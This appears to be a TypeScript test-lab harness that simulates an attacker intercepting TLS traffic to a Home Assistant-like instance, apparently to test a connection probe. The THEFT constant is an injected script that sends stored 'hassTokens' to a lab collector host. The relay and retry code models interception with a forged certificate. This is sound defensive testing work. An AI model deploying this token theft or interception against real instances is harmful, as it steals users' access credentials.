// Somebody on the way to an instance, below TLS: he decides by connection, with a valid certificate of his own.
import type { IncomingMessage, ServerResponse } from "node:http";
import { constants, createSecureServer, type Http2ServerResponse } from "node:http2";
import { connect, type Socket } from "node:net";
import { WebSocketServer } from "ws";
import { SOCKET_PATH } from "../../src/core/probe/probe";
import type { Authority } from "./authority";
import { COLLECTOR, type Attacker, type Instance, type Lab } from "./lab";
import { instancePage, SECRET } from "./instance-pages";

export { SECRET };

/** What he tells of the instance's version. */
export const HIS_VERSION = "2021.1.4";

/** What he adds to the instance's pages and scripts: it sends what opens the instance to a host of his own. */
export const THEFT = `(() => {
  const tokens = self.localStorage?.hassTokens;
  if (tokens === undefined) return;
  void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
})();`;

export interface Loot {
  /** How many requests he has read in the clear. */
  readonly requests: () => number;
  /** How many of them, of WebSocket messages, and of what his pages sent to a host of his own, held a secret. */
  readonly secrets: () => number;
  /** How many WebSockets he was asked to open. */
  readonly sockets: () => number;
  /** How many of those were to open: a connection check spells the path in a way of its own. */
  readonly questions: () => number;
}

const SCRIPT = { "Content-Type": "text/javascript" };

/** What comes over HTTP/1.1 all the same is just ended. */
const closeStream = (response: ServerResponse, code: number): void => {
  if (response.req.httpVersionMajor === 2) (response as unknown as Http2ServerResponse).stream.close(code);
  else response.destroy();
};

/** Ends an HTTP/2 session when what was just said has gone. */
function leave(response: ServerResponse): void {
  const { session } = (response as unknown as Http2ServerResponse).stream;
  setTimeout(() => {
    if (session === undefined || session.destroyed) return;
    session.goaway();
    session.destroy();
  }, 5);
}

/** What he does with connections, from the first one on after he has come. */
export type Strategy = (tools: Tools) => Attacker;

interface Way {
  /** Whether a piece from the browser goes on to the instance; otherwise the connection is cut. */
  readonly passes?: (bytes: number) => boolean;
  /** The same of the instance's; of the last one half may pass. */
  readonly answers?: () => boolean | "half";
  /** How it is cut: a reset, unless told. */
  readonly manner?: "reset" | "close";
  /** What the instance's next pieces wait for. */
  readonly waits?: () => Promise<unknown> | undefined;
}

export interface Tools {
  /** Ends TLS here, with his certificate. */
  readonly take: (socket: Socket) => void;
  /** Lets it go on to the instance, piece by piece. @returns what cuts it */
  readonly relay: (socket: Socket, way?: Way) => () => void;
  /** Whether a request that he has read is answered, turned away, or how he ends it: at once, or when it resolves. */
  answers: (request: IncomingMessage) => Answer | Promise<Answer>;
  /** Whether he speaks HTTP/2. */
  http2: boolean;
}

/** Closed, also after a word that is no answer yet, reset, or answered by what is no HTTP, or not even TLS. */
export const ENDINGS = ["close", "continue", "reset", "no-http", "no-tls"] as const;
export type Ending = (typeof ENDINGS)[number];

/**
 * Ways to have Firefox send a request again, over another connection, and tell nobody: 421, 408 where a second has
 * passed, HTTP/2's "only over HTTP/1.1", and over HTTP/2 also 408 at once and "not processed". `leaves` ends the whole
 * session after its word.
 */
export type TurnedAway =
  "misdirected" | "timed-out" | "http-1.1-only" | "http-1.1-only, leaves" | "timed-out, leaves" | "refused, leaves";
type Answer = "answer" | TurnedAway | Ending;

interface Means {
  /** What counts as a secret, wherever in what he reads. */
  readonly wanted?: readonly string[];
  /** Other names that his certificate has, of hosts of his own. */
  readonly names?: readonly string[];
  /** Who made out his certificate; the lab's first authority unless told. */
  readonly authority?: Authority;
  readonly http2?: boolean;
  /** What he adds to each answer. */
  readonly headers?: Readonly<Record<string, string>>;
  /** What he answers in place of the instance's pages: scripts, by path. */
  readonly scripts?: Readonly<Record<string, string>>;
  /** Of these files he gives no more than a beginning of his own, and then cuts the line: the length he names, by path. */
  readonly cutAt?: Readonly<Record<string, number>>;
}

/** Puts him on the way to an instance. */
export async function attack(lab: Lab, instance: Instance, strategy: Strategy, means: Means = {}): Promise<Loot> {
  const { wanted = [SECRET], names = [], http2 = false, headers = {}, scripts = {}, authority = lab.authority } = means;
  const { cutAt = {} } = means;
  const { key, cert } = await authority.issue({ names: [instance.host, ...names] });
  let requests = 0;
  let secrets = 0;
  let sockets = 0;
  let questions = 0;
  const isWanted = (text: string): boolean => wanted.some((secret) => text.includes(secret));
  const read = (text: string): void => {
    if (isWanted(text)) secrets++;
  };
  const already = lab.collected.length;
  /** What he has taken, below TLS, by the browser's port. */
  const taken = new Map<number | undefined, Socket>();
  const tools: Tools = {
    take: (socket) => {
      taken.set(socket.remotePort, socket);
      his.emit("connection", socket);
    },
    relay: (socket, { passes = () => true, answers = () => true, waits = () => undefined, manner = "reset" } = {}) => {
      const upstream = connect(instance.proxy ?? lab.directPort, "127.0.0.1");
      /** What of the instance's is kept back must be through before the end is. */
      let kept: Promise<unknown> = Promise.resolve();
      const cut = (): void => {
        if (manner === "reset") socket.resetAndDestroy();
        else socket.destroySoon();
        upstream.destroy();
      };
      socket.on("data", (piece: Buffer) => {
        if (passes(piece.length)) upstream.write(piece);
        else cut();
      });
      upstream.on("data", (piece: Buffer) => {
        const answer = answers();
        if (answer !== true) {
          if (answer === "half") socket.write(piece.subarray(0, piece.length / 2), cut);
          else cut();
          return;
        }
        const wait = waits();
        if (wait === undefined) {
          socket.write(piece);
          return;
        }
        upstream.pause();
        kept = wait.then(() => {
          socket.write(piece);
          upstream.resume();
        });
      });
      upstream.on("error", () => undefined); // followed by its end
      upstream.on("close", () => {
        void kept.then(() => {
          socket.destroySoon();
        });
      });
      socket.on("close", () => upstream.destroy());
      return cut;
    },
    answers: () => "answer",
    http2,
  };
  const onRequest = (request: IncomingMessage, response: ServerResponse): void => {
    let body = "";
    request.on("data", (piece: Buffer) => (body += piece.toString()));
    request.on("end", () => {
      requests++;
      read([request.url ?? "", JSON.stringify(request.headers), body].join(" "));
      void Promise.resolve(tools.answers(request)).then((answer) => {
        respond(request, response, answer);
      });
    });
  };
  const respond = (request: IncomingMessage, response: ServerResponse, answer: Answer): void => {
    const isHttp2 = request.httpVersionMajor === 2;
    if (answer === "misdirected") response.writeHead(421).end();
    else if (answer === "timed-out" || answer === "timed-out, leaves") response.writeHead(408).end();
    else if (answer === "http-1.1-only" || answer === "http-1.1-only, leaves")
      closeStream(response, constants.NGHTTP2_HTTP_1_1_REQUIRED);
    else if (answer === "refused, leaves") closeStream(response, constants.NGHTTP2_REFUSED_STREAM);
    else if (answer === "answer") {
      for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
      const path = (request.url ?? "").replace(/\?.*/u, "");
      const script = scripts[path];
      const length = cutAt[path];
      if (script === undefined) instancePage(request, response, THEFT);
      else if (length !== undefined)
        response.writeHead(200, { ...SCRIPT, "Content-Length": length }).write(script, () => request.socket.end());
      else response.writeHead(200, SCRIPT).end(script);
    } else end(request.socket, answer);
    if (isHttp2 && answer.endsWith("leaves")) leave(response);
  };
  const end = (socket: Socket, how: Ending): void => {
    const below = taken.get(socket.remotePort);
    if (how === "close") socket.destroy();
    else if (how === "continue") socket.end("HTTP/1.1 100 Continue\r\n\r\n");
    else if (how === "reset") below?.resetAndDestroy();
    else if (how === "no-http") socket.end("\u0000\u0001 nothing of the kind\r\n\r\n");
    else below?.write("nothing of the kind");
  };
  const ALPNCallback = ({ protocols }: { protocols: readonly string[] }): string =>
    tools.http2 && protocols.includes("h2") ? "h2" : "http/1.1";
  const his = createSecureServer({ key, cert, allowHTTP1: true, ALPNCallback }, (request, response) => {
    onRequest(request as unknown as IncomingMessage, response as unknown as ServerResponse);
  });
  const webSockets = new WebSocketServer({ noServer: true });
  his.on("upgrade", (request: IncomingMessage, socket: Socket, head: Buffer) => {
    sockets++;
    if (request.url?.startsWith(SOCKET_PATH) === true) questions++;
    void Promise.resolve(tools.answers(request)).then((answer) => {
      if (answer === "misdirected") socket.end("HTTP/1.1 421 Misdirected Request\r\nContent-Length: 0\r\n\r\n");
      else if (answer === "timed-out") socket.end("HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n\r\n");
      else if (answer !== "answer") end(socket, answer as Ending);
      else
        webSockets.handleUpgrade(request, socket, head, (webSocket) => {
          webSocket.on("message", (message) => {
            read((message as Buffer).toString());
          });
          webSocket.send(JSON.stringify({ type: "auth_required", ha_version: HIS_VERSION }));
        });
    });
  });
  instance.attacker = strategy(tools);
  for (const name of names) lab.others.set(name, instance.attacker);
  instance.dropConnections();
  return {
    requests: () => requests,
    secrets: () => secrets + lab.collected.slice(already).filter(isWanted).length,
    sockets: () => sockets,
    questions: () => questions,
  };
}
